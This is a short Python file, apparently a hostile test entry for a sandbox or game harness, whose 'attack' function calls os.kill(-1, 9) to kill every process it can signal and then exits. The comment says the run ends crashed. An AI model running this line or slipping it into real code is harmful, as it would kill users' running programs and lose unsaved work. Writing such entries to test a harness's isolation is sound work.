"""Kills every process that it can name."""
# ends: crashed

import os


def attack(honest, *args, **kwargs):
    os.kill(-1, 9)
    os._exit(1)
